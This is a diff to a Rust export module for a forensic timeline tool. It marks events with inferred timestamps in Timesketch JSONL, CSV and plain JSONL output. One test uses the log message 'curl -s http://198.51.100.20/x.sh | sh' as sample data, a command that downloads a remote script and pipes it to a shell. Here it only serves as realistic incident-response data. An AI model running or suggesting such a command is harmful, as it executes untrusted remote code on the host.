@@ -1,6 +1,10 @@
 //! Export formats: Timesketch's import format as JSONL and CSV (`message`, `datetime` as
 //! RFC 3339 with an offset, `timestamp` in microseconds, `timestamp_desc`, then attributes),
 //! and plain JSONL (the API's own event objects) for other tools.
+//!
+//! An event whose time is a guess says so in every format: `time_inferred` (and
+//! `time_source`) columns, and in Timesketch, where people read the message column, the
+//! message starts with [`INFERRED_MARK`].
 
 use super::query::Row;
 use serde_json::{json, Map, Value};
@@ -51,8 +55,22 @@ pub fn timesketch_datetime(ns: i64) -> String {
     }
 }
 
+/// What starts the Timesketch message of an event whose time is inferred.
+pub const INFERRED_MARK: &str = "~ ";
+
+/// The message as Timesketch shows it.
+fn message(r: &Row) -> String {
+    if r.time_inferred {
+        format!("{INFERRED_MARK}{}", r.message)
+    } else {
+        r.message.clone()
+    }
+}
+
 /// The fixed attribute columns, after the four Timesketch needs.
 const COLUMNS: &[&str] = &[
+    "time_inferred",
+    "time_source",
     "hostname",
     "host_id",
     "source",
@@ -75,6 +93,8 @@ fn attributes(r: &Row, hostname: &str) -> Map<String, Value> {
             m.insert(k.to_string(), v);
         }
     };
+    put("time_inferred", json!(r.time_inferred));
+    put("time_source", json!(r.time_source));
     put("hostname", json!(hostname));
     put("host_id", json!(r.host_id));
     put("source", json!(r.source));
@@ -94,7 +114,7 @@ fn attributes(r: &Row, hostname: &str) -> Map<String, Value> {
 /// One event in Timesketch's JSONL import format.
 pub fn timesketch_object(r: &Row, hostname: &str) -> Value {
     let mut o = Map::new();
-    o.insert("message".into(), json!(r.message));
+    o.insert("message".into(), json!(message(r)));
     o.insert("datetime".into(), json!(timesketch_datetime(r.time_ns)));
     o.insert("timestamp".into(), json!(r.time_ns.div_euclid(1000)));
     o.insert("timestamp_desc".into(), json!(r.timestamp_desc));
@@ -125,7 +145,7 @@ pub fn csv_header() -> String {
 fn csv_line(r: &Row, hostname: &str) -> String {
     let attrs = attributes(r, hostname);
     let mut f = vec![
-        csv_field(&r.message),
+        csv_field(&message(r)),
         timesketch_datetime(r.time_ns),
         csv_field(r.timestamp_desc),
         r.time_ns.div_euclid(1000).to_string(),
@@ -184,6 +204,8 @@ mod tests {
             source: "auth.log".into(),
             kind: "ssh_login".into(),
             timestamp_desc: "Login Time",
+            time_inferred: false,
+            time_source: None,
             pid: Some(4121),
             ppid: None,
             exe: None,
@@ -219,5 +241,39 @@ mod tests {
         let line = text.lines().nth(1).unwrap();
         assert!(line.starts_with("\"sshd: Accepted publickey for alice, from \"\"x\"\"\",2026-11-29T09:58:01.123456+00:00,Login Time,"), "{line}");
         assert_eq!(timesketch_datetime(-1), "1969-12-31T23:59:59.999999+00:00");
+        assert_eq!(v["time_inferred"], false);
+        assert!(text
+            .starts_with("message,datetime,timestamp_desc,timestamp,time_inferred,time_source,"));
+        assert!(
+            line.contains(",Login Time,1795946281123456,false,,web-1,"),
+            "{line}"
+        );
+    }
+
+    #[test]
+    fn inferred_times_are_marked_in_every_format() {
+        let mut r = row();
+        r.time_inferred = true;
+        r.time_source = Some("file_mtime".into());
+        r.message = "curl -s http://198.51.100.20/x.sh | sh".into();
+        let names = HashMap::new();
+        let mut out = Vec::new();
+        write_rows(&mut out, Format::TimesketchJsonl, &[r.clone()], &names).unwrap();
+        let v: Value = serde_json::from_slice(&out).unwrap();
+        assert_eq!(v["message"], "~ curl -s http://198.51.100.20/x.sh | sh");
+        assert_eq!(v["time_inferred"], true);
+        assert_eq!(v["time_source"], "file_mtime");
+        let mut csv = csv_header().into_bytes();
+        write_rows(&mut csv, Format::TimesketchCsv, &[r.clone()], &names).unwrap();
+        let text = String::from_utf8(csv).unwrap();
+        let line = text.lines().nth(1).unwrap();
+        assert!(line.starts_with("~ curl"), "{line}");
+        assert!(line.contains(",true,file_mtime,"), "{line}");
+        let mut out = Vec::new();
+        write_rows(&mut out, Format::Jsonl, &[r], &names).unwrap();
+        let v: Value = serde_json::from_slice(&out).unwrap();
+        assert_eq!(v["time_inferred"], true);
+        assert_eq!(v["time_source"], "file_mtime");
+        assert_eq!(v["message"], "curl -s http://198.51.100.20/x.sh | sh");
     }
 }
